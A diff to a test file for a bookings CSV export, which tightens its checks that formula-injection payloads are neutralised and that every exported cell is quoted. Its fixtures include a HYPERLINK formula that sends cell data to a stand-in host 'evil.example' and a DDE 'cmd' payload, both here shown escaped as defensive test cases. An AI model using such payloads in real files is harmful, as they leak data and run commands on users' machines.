@@ -837,15 +837,19 @@ describe('free text is stored as text: SQL and HTML payloads change nothing else
     const csv = bookingsCsv(listed);
     const row = csv.split('\r\n')[1] as string;
     expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Invoice"")"`);
-    expect(row).toContain(`,'+cmd|' /C calc'!A0,`);
-    expect(row).toContain(`,'-1+1,`);
+    expect(row).toContain(`,"'+cmd|' /C calc'!A0",`);
+    expect(row).toContain(`,"'-1+1",`);
     // The multi-line message stays one quoted cell; a formula at its start is neutralised.
     expect(csv).toContain(`"'=1+1\n""quoted"", and; semicolons"`);
     // Surrounding white space is trimmed on the way in; the formula that remains is neutralised.
-    expect(row.endsWith(",'=2+2") || csv.includes(",'=2+2\r\n")).toBe(true);
-    // No cell of the export starts with a formula character.
+    expect(csv).toContain(`,"'=2+2"\r\n`);
+    // Every cell is quoted (a ";" inside one cannot split it), and none starts with a formula
+    // character but our own numbers.
     const cells = csv.match(/(?<=^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm) ?? [];
-    for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+    for (const cell of cells.filter(Boolean)) {
+      expect(cell, cell).toMatch(/^"[^]*"$/);
+      expect(cell.slice(1, -1), cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+    }
   });
 });
 
